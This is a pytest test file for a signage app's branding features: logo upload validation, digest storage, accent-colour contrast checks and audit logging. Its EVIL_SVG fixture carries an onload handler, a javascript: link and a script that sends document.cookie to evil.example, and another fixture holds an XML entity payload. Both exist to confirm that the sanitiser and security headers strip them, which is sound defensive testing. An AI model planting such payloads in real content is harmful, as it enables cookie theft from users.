"""Branding: a display's logo (PNG, or SVG through the plans' sanitiser) served from our origin
under its digest, and an accent colour checked for contrast against the kiosk's theme.

Against the real server and the simulator; the kiosk and the console in Chromium.
"""

from __future__ import annotations

import re
import struct
import zlib
from pathlib import Path

import httpx
import pytest

from signage.core.branding import THEMES, accent_problem, contrast_ratio, mix_with_white
from signage.store.branding import (
    MAX_LOGO_BYTES,
    LogoError,
    Logos,
    check_logo,
    logo_digest,
)
from tests import pg_server as pgs
from tests.admin_helpers import Console, make_admin

any_store, pg_server, pg_url = pgs.any_store, pgs.pg_server, pgs.pg_url
ROOT = Path(__file__).resolve().parent.parent

EVIL_SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="120" height="40" viewBox="0 0 120 40" onload="alert(1)">
  <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
  <rect width="120" height="40" fill="#0055aa"/>
  <a xlink:href="javascript:alert(2)"><text x="10" y="28" fill="#fff">ACME</text></a>
  <image href="https://evil.example/pixel.png" width="1" height="1"/>
</svg>"""


def png(width: int = 8, height: int = 4, crc_ok: bool = True) -> bytes:
    """A real (tiny, grey) PNG file."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) ^ (0 if crc_ok or kind != b"IDAT" else 1)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    rows = b"".join(b"\x00" + b"\x80" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


# -- contrast, without a server ----------------------------------------------------------------
def test_contrast_ratios_are_wcag_s():
    assert contrast_ratio("#ffffff", "#000000") == pytest.approx(21.0)
    assert contrast_ratio("#767676", "#ffffff") == pytest.approx(4.54, abs=0.01)
    assert mix_with_white("#000000", 0.4) == "#666666"


def test_the_themes_colours_are_the_kiosk_css_s():
    css = (ROOT / "static/kiosk/kiosk.css").read_text()
    blocks = {
        "light": re.search(r":root\s*{([^}]*)}", css).group(1),
        "dark": re.search(r'html\[data-theme="dark"\]\s*{([^}]*)}', css).group(1),
        "contrast": re.search(r'html\[data-theme="contrast"\]\s*{([^}]*)}', css).group(1),
    }
    for theme, block in blocks.items():
        bg = re.search(r"--bg:\s*(#[0-9a-fA-F]{6})", block).group(1).lower()
        assert THEMES[theme].background == bg, theme
    banner = (ROOT / "static/kiosk/announce.css").read_text()
    item = re.search(r"\.announcement-item\s*{([^}]*)}", banner).group(1)
    assert "background: var(--brand)" in item and "color: #fff;" in item
    assert "color-mix(in srgb, var(--brand) 60%, #fff)" in css  # the dark theme's lines
    assert THEMES["dark"].line_lift == pytest.approx(0.4)


def test_an_accent_that_does_not_read_is_refused_with_the_ratio_it_got():
    assert accent_problem("#2b4bd8", "light") is None  # the kiosk's own blue
    problem = accent_problem("#ffd400", "light")
    assert "white text on #ffd400 has a contrast of 1.43:1" in problem
    assert "on the light theme's background (#f2f0eb) has a contrast of 1.25:1" in problem
    assert "4.5:1" in problem
    assert accent_problem("#ffd400", "dark").startswith("white text on #ffd400")
    assert "4.37:1" in accent_problem("#12804a", "light")  # 4.37 is not rounded up to pass


# -- logo files ----------------------------------------------------------------------------------
def test_a_png_is_checked_to_be_one_and_bounded():
    data, kind = check_logo(png())
    assert kind == "image/png" and data == png()
    with pytest.raises(LogoError, match="checksum"):
        check_logo(png(crc_ok=False))
    with pytest.raises(LogoError, match="5000×4 pixels; a logo may have at most 4096"):
        check_logo(png(width=5000))
    with pytest.raises(LogoError, match="cut short"):
        check_logo(png()[:-10])
    with pytest.raises(LogoError, match="must be a PNG or an SVG"):
        check_logo(b"GIF89a....")
    with pytest.raises(LogoError, match=r"the file has 600 kB; a logo may have at most 512 kB"):
        check_logo(png() + b"\0" * 600_000)
    assert MAX_LOGO_BYTES == 512_000


def test_an_svg_logo_goes_through_the_plans_sanitiser():
    data, kind = check_logo(EVIL_SVG)
    text = data.decode()
    assert kind == "image/svg+xml"
    assert not re.search(r"(?i)<script|onload|javascript:|evil\.example", text), text
    assert "ACME" in text and "#0055aa" in text
    with pytest.raises(LogoError, match="DTD|entit|could not"):
        check_logo(b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "y">]><svg>&x;</svg>')


def test_logos_are_kept_by_digest_and_swept_when_no_display_shows_them(any_store):
    logos = Logos(any_store)
    first = logos.put(png(), "image/png", now=0)
    again = logos.put(png(), "image/png", now=0)
    assert first.sha256 == again.sha256 and first.url.endswith(".png")
    assert logo_digest(first.url) == first.sha256
    assert logo_digest("https://example.com/logo.png") is None
    kept = logos.put(b"<svg/>", "image/svg+xml", now=0)
    fresh = logos.put(png(4, 4), "image/png")  # just uploaded: spared
    assert logos.get(first.sha256).data == png()
    assert logos.sweep({kept.sha256}) == 1
    assert logos.get(first.sha256) is None
    assert logos.get(kept.sha256).content_type == "image/svg+xml"
    assert logos.get(fresh.sha256) is not None


# -- the console, the API and the kiosk ----------------------------------------------------------
@pytest.fixture
def admin(server) -> Console:
    make_admin(server.svc)
    console = Console(server.app)
    assert console.login().status_code == 302
    return console


def a_floor(sim) -> str:
    return sim.world.portfolio.floor_ids[0]


def upload(admin: Console, display_id: int, data: bytes, name: str):
    from io import BytesIO

    return admin.post(
        f"/admin/displays/{display_id}/branding/logo",
        {"logo": (BytesIO(data), name)},
        content_type="multipart/form-data",
    )


def test_a_malicious_svg_logo_is_sanitised_and_served_from_our_origin(sim, server, admin):
    display = server.svc.store.add_display("Lobby", a_floor(sim))
    answer = upload(admin, display.id, EVIL_SVG, "logo.svg")
    assert answer.status_code == 302, answer.get_data(as_text=True)
    logo_url = server.svc.store.get_display(display.id).settings["logo_url"]
    assert re.fullmatch(r"/branding/logo/[0-9a-f]{64}\.svg", logo_url)
    served = httpx.get(f"{server.url}{logo_url}")
    assert served.status_code == 200
    assert served.headers["content-type"].startswith("image/svg+xml")
    assert served.headers["cache-control"] == "public, max-age=31536000, immutable"
    assert "default-src 'none'" in served.headers["content-security-policy"]
    assert not re.search(r"(?i)<script|onload|javascript:|evil\.example", served.text)
    again = httpx.get(f"{server.url}{logo_url}", headers={"If-None-Match": served.headers["etag"]})
    assert again.status_code == 304
    assert httpx.get(f"{server.url}{logo_url[:-3]}png").status_code == 404
    # The kiosk shows it where a logo URL is shown, from our origin (no other origin allowed).
    kiosk = httpx.get(f"{server.url}/kiosk/{server.svc.store.credential(display)}")
    assert f'<img class="logo" src="{logo_url}"' in kiosk.text
    assert "img-src 'self' data:;" in kiosk.headers["content-security-policy"]


def test_an_oversize_or_wrong_logo_is_refused_with_a_message(sim, server, admin):
    display = server.svc.store.add_display("Lobby", a_floor(sim))
    # Just over the limit: read, and refused beside its field.
    big = upload(admin, display.id, png() + b"\0" * 530_000, "big.png")
    assert big.status_code == 400
    text = big.get_data(as_text=True)
    assert "the file has 530 kB; a logo may have at most 512 kB" in text
    assert 'id="logo-error"' in text
    # Far over it: refused before the body is read (413), on a console page naming the logo's
    # own limit, not a floor plan's.
    huge = upload(admin, display.id, png() + b"\0" * 700_000, "huge.png")
    assert huge.status_code == 413
    text = huge.get_data(as_text=True)
    assert "The logo was not stored: the file is larger than the 512 kB a logo may have" in text
    assert "plan" not in text.split("<main", 1)[-1].lower()
    bad = upload(admin, display.id, b"%PDF-1.7 not an image", "logo.pdf")
    assert bad.status_code == 400
    assert "a logo must be a PNG or an SVG file" in bad.get_data(as_text=True)
    assert server.svc.store.get_display(display.id).settings.get("logo_url", "") == ""


def test_a_low_contrast_accent_is_refused_with_the_ratio_it_got(sim, server, admin):
    display = server.svc.store.add_display("Lobby", a_floor(sim), settings={"theme": "light"})
    refused = admin.post(
        f"/admin/displays/{display.id}/branding/accent", {"brand_color": "#ffd400"}
    )
    assert refused.status_code == 400
    text = refused.get_data(as_text=True)
    assert 'id="brand_color-error"' in text
    assert "white text on #ffd400 has a contrast of 1.43:1" in text
    assert server.svc.store.get_display(display.id).settings.get("brand_color", "") == ""
    ok = admin.post(f"/admin/displays/{display.id}/branding/accent", {"brand_color": "#0055AA"})
    assert ok.status_code == 302
    assert server.svc.store.get_display(display.id).settings["brand_color"] == "#0055aa"
    # The display form and the API hold the same check; a theme change re-checks the accent.
    # The contrast theme draws a lightened variant on black, so #0055aa (2.87:1 there as it is)
    # passes; a dark blue whose lifted lines sink into the dark theme's background does not.
    api = admin.api("PATCH", f"/api/admin/displays/{display.id}", json={"theme": "contrast"})
    assert api.status_code == 200
    dark_blue = {"brand_color": "#14145a"}
    assert admin.post(f"/admin/displays/{display.id}/branding/accent", dark_blue).status_code == 302
    api = admin.api("PATCH", f"/api/admin/displays/{display.id}", json={"theme": "dark"})
    assert api.status_code == 400
    assert "4.17:1" in api.get_json()["fields"]["brand_color"]
    api = admin.api("PATCH", f"/api/admin/displays/{display.id}", json={"brand_color": "#777777"})
    assert api.status_code == 400 and "brand_color" in api.get_json()["fields"]
    assert (
        admin.api("PATCH", f"/api/admin/displays/{display.id}", json={"name": "Hall"}).status_code
        == 200
    )
    back = admin.post(f"/admin/displays/{display.id}/branding/accent", {"default": "1"})
    assert back.status_code == 302
    assert server.svc.store.get_display(display.id).settings["brand_color"] == ""


def test_api_logo_round_trip(sim, server, admin):
    display = server.svc.store.add_display("Lobby", a_floor(sim))
    put = admin.api(
        "PUT",
        f"/api/admin/displays/{display.id}/logo",
        data=png(),
        headers={"Content-Type": "image/png"},
    )
    assert put.status_code == 200, put.get_data(as_text=True)
    url = put.get_json()["logo_url"]
    assert re.fullmatch(r"/branding/logo/[0-9a-f]{64}\.png", url)
    assert (
        admin.api("GET", f"/api/admin/displays/{display.id}").get_json()["settings"]["logo_url"]
        == url
    )
    assert httpx.get(f"{server.url}{url}").content == png()
    refused = admin.api(
        "PUT",
        f"/api/admin/displays/{display.id}/logo",
        data=b"<svg",
        headers={"Content-Type": "image/svg+xml"},
    )
    assert refused.status_code == 400 and "logo" in refused.get_json()["fields"]
    assert admin.api("DELETE", f"/api/admin/displays/{display.id}/logo").status_code == 204
    assert server.svc.store.get_display(display.id).settings["logo_url"] == ""
    assert admin.api("PUT", "/api/admin/displays/999999/logo", data=png()).status_code == 404
    paths = admin.api("GET", "/api/admin/openapi.json").get_json()["paths"]
    assert {"put", "delete"} <= set(paths["/displays/{display_id}/logo"])


@pytest.mark.browser
def test_the_kiosk_shows_the_uploaded_logo(sim, server, admin, contexts, tmp_path):
    display = server.svc.store.add_display("Lobby", a_floor(sim), settings={"language": "de"})
    assert upload(admin, display.id, EVIL_SVG, "logo.svg").status_code == 302
    page = contexts(1280, 720).new_page()
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.goto(f"{server.url}/kiosk/{server.svc.store.credential(display)}")
    page.wait_for_function(
        "() => { const i = document.querySelector('img.logo'); return i && i.complete"
        " && i.naturalWidth > 0; }",
        timeout=10_000,
    )
    page.screenshot(path=str(tmp_path / "kiosk-logo.png"))
    assert errors == []


def test_a_logo_change_is_audited_with_its_digest_type_size_and_pixels(sim, server, admin):
    """The audit entry of a logo change says which logo, before and after (never its bytes):
    a `logo_url` alone names a digest nobody can read."""
    from signage.store.audit import AuditFilter

    store = server.svc.store
    display = store.add_display("Lobby", a_floor(sim))
    first = png(200, 80)
    assert upload(admin, display.id, first, "logo.png").status_code == 302
    (entry,) = store.audit_entries(AuditFilter(action="display.update"))
    digest = logo_digest(store.get_display(display.id).settings["logo_url"])
    assert entry.before["logo_sha256"] is None and entry.before["logo_url"] == ""
    assert entry.after == {
        "logo_url": f"/branding/logo/{digest}.png",
        "logo_sha256": digest[:12],
        "logo_type": "PNG",
        "logo_bytes": len(first),
        "logo_pixels": "200×80",
    }
    assert upload(admin, display.id, EVIL_SVG, "logo.svg").status_code == 302
    second = store.audit_entries(AuditFilter(action="display.update"))[0]
    assert second.before["logo_sha256"] == digest[:12] and second.before["logo_pixels"] == "200×80"
    assert second.after["logo_type"] == "SVG" and second.after["logo_pixels"] == "120×40"
    stored = Logos(store).get(logo_digest(store.get_display(display.id).settings["logo_url"]))
    assert second.after["logo_bytes"] == len(stored.data)
    # No image bytes in the trail, in any form.
    assert "base64" not in repr(second) and "<svg" not in repr(second)
    answer = admin.post(f"/admin/displays/{display.id}/branding/logo/remove", {"confirm": "yes"})
    assert answer.status_code == 302
    third = store.audit_entries(AuditFilter(action="display.update"))[0]
    assert third.before["logo_type"] == "SVG" and third.after["logo_sha256"] is None
    page = admin.get("/admin/audit").get_data(as_text=True)
    assert f"logo_sha256: {digest[:12]} → none" not in page  # the SVG came in between
    assert "logo_pixels: 200×80 → 120×40" in page


def test_the_accent_table_says_what_each_theme_draws_in_it(sim, server, admin):
    light = server.svc.store.add_display("Lobby", a_floor(sim), settings={"theme": "light"})
    black = server.svc.store.add_display("Atrium", a_floor(sim), settings={"theme": "contrast"})
    page = admin.get(f"/admin/displays/{light.id}/branding").get_data(as_text=True)
    assert "routes and “you are here” are drawn in it" in page and "Route ➜" in page
    # The contrast theme draws routes in a fixed yellow: its sample is "you are here".
    page = admin.get(f"/admin/displays/{black.id}/branding").get_data(as_text=True)
    assert "routes are yellow on this theme" in page and "● You are here" in page
    assert "Route ➜" not in page
